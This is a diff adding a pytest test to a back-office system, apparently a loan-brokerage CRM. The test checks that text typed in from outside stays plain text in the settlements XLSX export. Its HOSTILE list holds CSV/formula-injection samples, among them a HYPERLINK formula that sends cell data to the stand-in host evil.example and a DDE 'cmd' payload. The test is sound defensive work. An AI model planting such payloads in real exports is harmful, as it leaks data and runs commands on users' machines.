@@ -3,15 +3,21 @@
 from __future__ import annotations
 
 import io
+from datetime import date
 from decimal import Decimal
 
 from openpyxl import load_workbook
 
+from backoffice.contracts import service as contract_service
 from backoffice.contracts.models import FunderType
+from backoffice.deposits import service as deposit_service
+from backoffice.processing import service as processing_service
+from backoffice.processing.models import FollowUpKind
 from backoffice.settlements import service as settlement_service
 from backoffice.settlements.models import DiscountKind, PaymentMethod
-from tests.backoffice.conftest import disbursed
-from tests.customers.factories import auth
+from scrm.customers.models import Stage
+from tests.backoffice.conftest import disbursed, terms
+from tests.customers.factories import auth, make_customer, phone
 
 
 def settle(db, w, **kw):
@@ -45,3 +51,37 @@ def test_export_streams_the_settled_orders_with_the_filters_used(db, client, wor
     everything = load_workbook(io.BytesIO(client.get("/api/backoffice/exports/settlements.xlsx",
                                                      headers=auth(w.finance)).content))
     assert everything["已结算订单"].max_row == 3
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&C2,"查看")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3",
+           "#REF!"]
+
+
+def test_text_typed_outside_stays_text_in_the_export(db, client, world):
+    w = world
+    # the customer names themselves in the mini-program; the processor types the funder; WeCom sync names staff
+    w.sales.name = "=1+2"
+    for i, name in enumerate(HOSTILE):
+        customer = make_customer(db, owner=w.sales, stage=Stage.appointment, name=name, phone=phone(81000000 + i))
+        order = contract_service.sign_order(db, w.sales, customer.id, terms())
+        contract_service.confirm_contract(db, w.finance, order)
+        contract_service.review(db, w.supervisor, order)
+        deposit_service.confirm_deposit(db, w.finance, order, processor_id=w.processor.id)
+        processing_service.add_follow_up(db, w.processor, order, FollowUpKind.disbursed_pending, name)
+        s = processing_service.disburse(db, w.processor, order, amount_fen=18_000_000, disbursed_on=date(2026, 11, 20),
+                                        funder_name=HOSTILE[-1 - i], term_months=36, repayment_day=15)
+        settlement_service.set_charges(db, w.finance, s, payment_method=PaymentMethod.cash)
+        settlement_service.close(db, w.finance, s)
+    db.flush()
+    r = client.get("/api/backoffice/exports/settlements.xlsx", headers=auth(w.finance))
+    assert r.status_code == 200, r.text
+    wb = load_workbook(io.BytesIO(r.content))
+    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    sheet = wb["已结算订单"]
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
+    assert sorted(r["客户"].value for r in rows) == sorted(HOSTILE)
+    assert sorted(r["放款机构"].value for r in rows) == sorted(HOSTILE)
+    assert {r["营销专员"].value for r in rows} == {"=1+2"}
+    assert all(r[col].data_type == "s" for r in rows for col in ("客户", "放款机构", "营销专员"))
